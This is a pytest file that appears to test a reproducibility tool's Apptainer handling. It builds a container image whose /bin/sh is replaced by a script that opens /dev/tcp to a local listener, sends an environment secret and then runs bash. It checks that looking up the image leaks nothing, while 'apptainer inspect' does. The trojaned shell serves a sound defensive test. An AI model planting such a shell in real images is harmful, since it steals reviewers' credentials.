"""Attack: an image of a run's author is a program that its reviewer's Apptainer starts before anybody has asked."""

from __future__ import annotations

import re
import shutil
import socket
import subprocess
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path

import pytest
from real_engines import need, run

from ndrepro.execution.containers import apptainer as engine

pytestmark = pytest.mark.engines
SHELL = """#!/bin/bash
exec 3<> /dev/tcp/127.0.0.1/{port} && echo "${{SECRET_OF_A_TEST-}}" >&3
exec /bin/bash "$@"
"""


@pytest.fixture
def listening() -> Iterator[socket.socket]:
    """A server of the reviewer's machine, which no container is to reach."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(1)
        yield server


@pytest.fixture
def image(apptainer: None, listening: socket.socket, tmp_path: Path) -> Path:
    """A file whose shell calls the server."""
    need("mksquashfs")
    root = tmp_path / "root"
    for name in ("bash", "cat"):
        needed = re.findall(r"/\S+", run("ldd", f"/bin/{name}"))
        for path in (f"/bin/{name}", *needed):
            place = root / path.lstrip("/")
            place.parent.mkdir(parents=True, exist_ok=True)
            shutil.copy(path, place)
    shell = root / "bin" / "sh"
    shell.write_text(SHELL.format(port=listening.getsockname()[1]))
    shell.chmod(0o755)
    for name in ("tmp", "proc", "dev", "etc", "sys"):
        (root / name).mkdir()
    # one that Apptainer built has its labels beside the files, too
    run("mksquashfs", str(root), str(tmp_path / "image.sqsh"))
    return tmp_path / "image.sqsh"


def heard(server: socket.socket) -> str:
    with suppress(TimeoutError):
        connection, _ = server.accept()
        with connection:
            return connection.recv(100).decode()
    return "nothing"


def test_its_shell_has_neither_the_network_nor_the_reviewers_variables(
    image: Path, listening: socket.socket, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SECRET_OF_A_TEST", "token")
    assert engine.find("apptainer", str(image)).identifier.startswith("sha256:")
    assert heard(listening) == "nothing"
    subprocess.run(["apptainer", "inspect", "--json", "--labels", str(image)], capture_output=True)
    assert heard(listening) == "token\n", "the control: what read the labels before"
